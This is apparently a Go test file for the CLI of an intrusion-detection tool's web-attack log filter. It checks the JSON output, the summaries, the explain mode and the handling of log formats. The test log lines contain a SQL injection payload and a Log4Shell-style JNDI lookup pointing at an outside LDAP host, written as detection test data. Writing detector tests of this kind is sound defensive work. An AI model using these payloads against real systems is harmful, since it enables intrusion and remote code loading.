package cli

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/rampart-ids/rampart/internal/webattack/corpus"
)

func TestWebAttacksJSON(t *testing.T) {
	var log bytes.Buffer
	truth, err := corpus.Generate(&log, corpus.Options{Seed: 5, BenignClients: 20, BenignLines: 400})
	if err != nil {
		t.Fatal(err)
	}
	out, errs, code := runCLIIn(t, log.String(), "filter", "test", "web-attacks", "-", "--json")
	if code != 0 {
		t.Fatalf("exit %d, stderr %s", code, errs)
	}
	dec := json.NewDecoder(strings.NewReader(out))
	n := 0
	for dec.More() {
		var h webHit
		if err := dec.Decode(&h); err != nil {
			t.Fatalf("stdout is not JSON objects only: %v", err)
		}
		n++
		e := truth[h.Line-1]
		if e.Category == "" {
			t.Errorf("benign line %d flagged: %+v", h.Line, h)
		}
		if h.IP != e.Addr.String() || h.Rule == "" || h.Category == "" || h.Severity == "" || h.Field == "" || h.Fragment == "" {
			t.Errorf("line %d: incomplete record %+v (want ip %s)", h.Line, h, e.Addr)
		}
	}
	attacks := 0
	for _, e := range truth {
		if e.Category != "" {
			attacks++
		}
	}
	if n < attacks*85/100 {
		t.Errorf("%d of %d attack lines flagged", n, attacks)
	}
}

func TestWebAttacksSummaryAndExplain(t *testing.T) {
	log := `192.0.2.7 - - [03/Dec/2026:10:00:00 +0000] "GET /search?q=don%27t+stop+believing HTTP/1.1" 200 512 "-" "Mozilla/5.0"
198.51.100.9 - - [03/Dec/2026:10:00:01 +0000] "GET /item?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1" 200 512 "-" "Mozilla/5.0"
not an access log line
`
	out, errs, code := runCLIIn(t, log, "filter", "test", "web-attacks", "-")
	if code != 0 {
		t.Fatalf("exit %d, stderr %s", code, errs)
	}
	for _, want := range []string{"Lines:    3 read", "Skipped:  1", "first: line 3", "Flagged:  1 requests, 1 of them single-hit", "sqli", "SQLI-"} {
		if !strings.Contains(out, want) {
			t.Errorf("summary lacks %q:\n%s", want, out)
		}
	}
	out, _, code = runCLIIn(t, log, "filter", "test", "web-attacks", "-", "--explain", "2")
	if code != 0 || !strings.Contains(out, "+ SQLI-") || !strings.Contains(out, `args        "1' OR '1'='1\n"`) || !strings.Contains(out, "single-hit") {
		t.Errorf("--explain 2 (exit %d):\n%s", code, out)
	}
	out, _, _ = runCLIIn(t, log, "filter", "test", "web-attacks", "-", "--explain", "1")
	if !strings.Contains(out, "not reported") || !strings.Contains(out, "- XSS-010") {
		t.Errorf("--explain 1:\n%s", out)
	}
	out, _, _ = runCLIIn(t, log, "filter", "test", "web-attacks", "-", "--explain", "2", "--json")
	var ex struct {
		Line  int  `json:"line"`
		Score int  `json:"score"`
		Hit   bool `json:"single_hit"`
	}
	if err := json.Unmarshal([]byte(out), &ex); err != nil || ex.Line != 2 || !ex.Hit {
		t.Errorf("--explain --json = %v, %+v:\n%s", err, ex, out)
	}
	_, errs, code = runCLIIn(t, log, "filter", "test", "web-attacks", "-", "--explain", "9")
	if code != 2 || !strings.Contains(errs, "only 3 lines") {
		t.Errorf("--explain past the end: exit %d, %s", code, errs)
	}
}

func TestWebAttacksFormats(t *testing.T) {
	caddy := `{"level":"info","ts":1764756000.5,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"192.0.2.44","client_ip":"203.0.113.44","proto":"HTTP/2.0","method":"GET","host":"example.com","uri":"/?x=${jndi:ldap://203.0.113.9/a}","headers":{"User-Agent":["curl/8.0"]}},"status":200,"size":10}` + "\n"
	out, errs, code := runCLIIn(t, caddy, "filter", "test", "web-attacks", "-", "--json", "--format", "caddy")
	if code != 0 || !strings.Contains(out, `"ip":"203.0.113.44"`) || !strings.Contains(out, `"rule":"JAVA-001"`) {
		t.Errorf("caddy: exit %d, %s\n%s", code, errs, out)
	}
	garbage := strings.Repeat("hello world\n", 30)
	_, errs, code = runCLIIn(t, garbage, "filter", "test", "web-attacks", "-")
	if code != 2 || !strings.Contains(errs, "unknown format") || !strings.Contains(errs, "line 1") {
		t.Errorf("garbage: exit %d, %s", code, errs)
	}
	_, errs, code = runCLIIn(t, caddy, "filter", "test", "web-attacks", "--journal")
	if code != 2 || !strings.Contains(errs, "not the journal") {
		t.Errorf("--journal: exit %d, %s", code, errs)
	}
	_, errs, code = runCLIIn(t, caddy, "filter", "test", "web-attacks", "-", "--format", "iis")
	if code != 2 || !strings.Contains(errs, `unknown format "iis"`) {
		t.Errorf("--format iis: exit %d, %s", code, errs)
	}
}
